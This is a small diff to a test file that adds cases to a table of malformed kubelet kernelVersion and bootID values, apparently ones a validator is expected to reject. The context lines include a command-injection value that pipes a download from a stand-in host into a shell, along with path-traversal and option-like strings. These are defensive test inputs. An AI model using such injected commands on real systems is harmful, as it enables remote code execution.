@@ -44,6 +44,8 @@ describe('what kubelets report', () => {
     ['a command', { kernelVersion: "6.1'; curl evil | sh; '" }, 'kernelVersion'],
     ['a long release', { kernelVersion: '6'.repeat(65) }, 'kernelVersion'],
     ['a path', { kernelVersion: '../../etc' }, 'kernelVersion'],
+    ['the folder above', { kernelVersion: '..' }, 'kernelVersion'],
+    ['an option', { kernelVersion: '--all' }, 'kernelVersion'],
     ['a line', { kernelVersion: '6.1\n' }, 'kernelVersion'],
     ['a number', { kernelVersion: 6 }, 'kernelVersion'],
     ['a boot id with a space', { bootID: 'a b' }, 'bootID'],
